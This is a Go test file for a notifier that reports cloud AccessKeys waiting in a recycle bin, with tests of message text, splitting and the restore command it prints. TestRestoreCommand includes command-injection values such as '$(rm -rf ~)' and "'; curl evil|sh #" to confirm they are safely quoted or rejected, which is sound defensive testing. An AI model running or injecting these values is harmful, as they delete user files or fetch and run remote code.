package notify_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/akrecycle/ak-recycle-alert/alert"
	"github.com/akrecycle/ak-recycle-alert/notify"
	nt "github.com/akrecycle/ak-recycle-alert/notify/notifytest"
)

func TestNewMessage(t *testing.T) {
	m := notify.NewMessage(nt.Sample(t))
	var order []string
	for _, k := range m.Keys {
		order = append(order, k.Alert.AccessKeyID)
	}
	wantOrder := []string{"LTAI5tDavePastDelete0003", "LTAI5tAliceExpiring0002", "LTAI5tCarolRecycled0001"}
	if diff := cmp.Diff(wantOrder, order); diff != "" {
		t.Errorf("notify.NewMessage keys order (-want +got):\n%s", diff)
	}
	tests := []struct {
		name, got, want string
	}{
		{"headline", m.Headline, "3 RAM AccessKeys in the recycle bin need attention"},
		{"repeat", m.Repeat, "repeat 2 of the 17:00 check"},
		{"account", m.Account, "prod (1234567890123456)"},
		{"next", m.Next, "2026-12-01 17:00 CST"},
		{"past left", m.Keys[0].Left, "past DeleteDate, may already be gone"},
		{"left", m.Keys[1].Left, "in 3d 23h"},
		{"purged", m.Keys[1].Purged, "2026-12-04 16:12 CST"},
		{"event", m.Keys[1].Event, "expiring (3d threshold)"},
		{"event 0", m.Keys[0].Event, "expiring (purged before the next check)"},
		{"restore", m.Keys[1].Restore, "aliyun ims RestoreAccessKeyFromRecycleBin --UserId 20732900249392aa --UserAccessKeyId LTAI5tAliceExpiring0002"},
		{"errors", m.ErrorGroups[0].Text(), "NoPermission, 2 users: eve, frank (You are not authorized to do this action.)"},
		{"digest", notify.NewMessage(nt.Digest(t)).Headline, "Digest: no AccessKey in the recycle bin of 12 users"},
	}
	for _, tt := range tests {
		if tt.got != tt.want {
			t.Errorf("%s = %q, want %q", tt.name, tt.got, tt.want)
		}
	}
}

func TestHeadline(t *testing.T) {
	tests := []struct {
		name string
		r    func() *alert.Report
		want string
	}{
		{"one", func() *alert.Report { r := nt.Sample(t); r.Alerts = r.Alerts[:1]; return r },
			"1 RAM AccessKey in the recycle bin needs attention"},
		{"errors only", func() *alert.Report { r := nt.Sample(t); r.Alerts = nil; return r },
			"RAM AccessKey recycle bin: 3 users could not be read"},
		{"quiet", func() *alert.Report { r := nt.Sample(t); r.Alerts, r.Errors = nil, nil; return r },
			"No RAM AccessKey in the recycle bin needs attention"},
		{"digest keys", func() *alert.Report { r := nt.Sample(t); r.Mode = alert.ModeDigest; return r },
			"Digest: 3 RAM AccessKeys in the recycle bin of 4 users"},
	}
	for _, tt := range tests {
		if got := notify.NewMessage(tt.r()).Headline; got != tt.want {
			t.Errorf("%s: Headline = %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestSplit(t *testing.T) {
	tests := []struct {
		name      string
		keys      int
		perPart   int
		wantParts int
		wantRest  int
	}{
		{"no keys", 0, 10, 1, 0},
		{"one part", 5, 10, 1, 0},
		{"exact", 20, 10, 2, 0},
		{"150 keys", 150, 30, 4, 50},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m := notify.NewMessage(nt.Many(t, tt.keys))
			parts := m.Split(func(p notify.Part) bool { return len(p.Keys) <= tt.perPart })
			if len(parts) != tt.wantParts {
				t.Fatalf("len(Split) = %d, want %d", len(parts), tt.wantParts)
			}
			if m.Rest != tt.wantRest {
				t.Errorf("Rest = %d, want %d", m.Rest, tt.wantRest)
			}
			var got []string
			for i, p := range parts {
				if p.Index != i+1 || p.Total != len(parts) || p.Summary != (i == 0) || p.Rest != (i == len(parts)-1) {
					t.Errorf("part %d = {Index %d Total %d Summary %v Rest %v}", i, p.Index, p.Total, p.Summary, p.Rest)
				}
				if len(parts) > 1 && !strings.Contains(p.Context(), fmt.Sprintf("part %d/%d", i+1, len(parts))) ||
					!strings.Contains(p.Context(), "1234567890123456") {
					t.Errorf("part %d Context = %q, want the account and its number", i, p.Context())
				}
				for _, k := range p.Keys {
					got = append(got, k.Alert.AccessKeyID)
				}
			}
			var want []string
			for _, k := range m.Keys {
				want = append(want, k.Alert.AccessKeyID)
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("keys across parts (-want +got):\n%s", diff)
			}
			if last := parts[len(parts)-1].RestLine(); tt.wantRest > 0 && !strings.Contains(last, "50 more alerted AccessKeys") {
				t.Errorf("last part's rest line = %q, want the count of the rest", last)
			}
		})
	}
}

func TestPartTitle(t *testing.T) {
	r := nt.Sample(t)
	r.DryRun = true
	m := notify.NewMessage(r)
	p := notify.Part{Message: m, Index: 2, Total: 4}
	want := "[DRY RUN] 3 RAM AccessKeys in the recycle bin need attention (repeat 2 of the 17:00 check, part 2/4)"
	if got := p.Title(); got != want {
		t.Errorf("Title() = %q, want %q", got, want)
	}
	r.RetryCount = 0
	r.DryRun = false
	if got, want := (notify.Part{Message: notify.NewMessage(r), Index: 1, Total: 1}).Title(), "3 RAM AccessKeys in the recycle bin need attention"; got != want {
		t.Errorf("Title() = %q, want %q", got, want)
	}
}

func TestRestoreCommand(t *testing.T) {
	tests := []struct {
		name, userID, accessKeyID string
		want                      string
		wantOK                    bool
	}{
		{"ordinary", "20732900249392aa", "LTAI5tAliceExpiring0002",
			"aliyun ims RestoreAccessKeyFromRecycleBin --UserId 20732900249392aa --UserAccessKeyId LTAI5tAliceExpiring0002", true},
		{"substitution quoted", "$(rm -rf ~)", "LTAI5t",
			"aliyun ims RestoreAccessKeyFromRecycleBin --UserId '$(rm -rf ~)' --UserAccessKeyId LTAI5t", true},
		{"markup quoted", "123", "<!channel>*x*",
			"aliyun ims RestoreAccessKeyFromRecycleBin --UserId 123 --UserAccessKeyId '<!channel>*x*'", true},
		{"single quote", "123", "'; curl evil|sh #", "", false},
		{"backtick", "123", "LTAI`id`", "", false},
		{"line break", "123\n", "LTAI5t", "", false},
		{"non-ASCII", "123", "LTAI\u202e5t", "", false},
		{"empty", "", "LTAI5t", "", false},
	}
	for _, tt := range tests {
		got, ok := restoreCommand(tt.userID, tt.accessKeyID)
		if got != tt.want || ok != tt.wantOK {
			t.Errorf("%s: the restore command of (%q, %q) = %q, %v; want %q, %v", tt.name, tt.userID, tt.accessKeyID, got, ok, tt.want, tt.wantOK)
		}
	}
}

// FuzzRestoreCommand: a command is given exactly when the IDs allow one, and a POSIX shell splits it
// into exactly the intended words.
func FuzzRestoreCommand(f *testing.F) {
	for i, s := range nt.HostileSeeds {
		f.Add(s, nt.HostileSeeds[(i+7)%len(nt.HostileSeeds)])
	}
	f.Fuzz(func(t *testing.T, userID, accessKeyID string) {
		cmd, ok := restoreCommand(userID, accessKeyID)
		want, wantOK := nt.RestoreArgv(alert.Alert{UserID: userID, AccessKeyID: accessKeyID})
		if ok != wantOK {
			t.Fatalf("restoreCommand(%q, %q) ok = %v, want %v", userID, accessKeyID, ok, wantOK)
		}
		if !ok {
			if cmd != "" {
				t.Fatalf("restoreCommand(%q, %q) = %q with ok false", userID, accessKeyID, cmd)
			}
			return
		}
		got, err := nt.ShellWords(cmd)
		if err != nil || !cmp.Equal(got, want) {
			t.Fatalf("restoreCommand(%q, %q) = %q, which splits into %q, %v; want %q", userID, accessKeyID, cmd, got, err, want)
		}
	})
}

// restoreCommand is the restore command a message shows for a key of userID and accessKeyID, and
// whether it shows one.
func restoreCommand(userID, accessKeyID string) (string, bool) {
	r := &alert.Report{Findings: alert.Findings{Mode: alert.ModeCrossing,
		Alerts: []alert.Alert{{Event: alert.Recycled, UserName: "u", UserID: userID, AccessKeyID: accessKeyID}}}}
	cmd := notify.NewMessage(r).Keys[0].Restore
	return cmd, cmd != ""
}
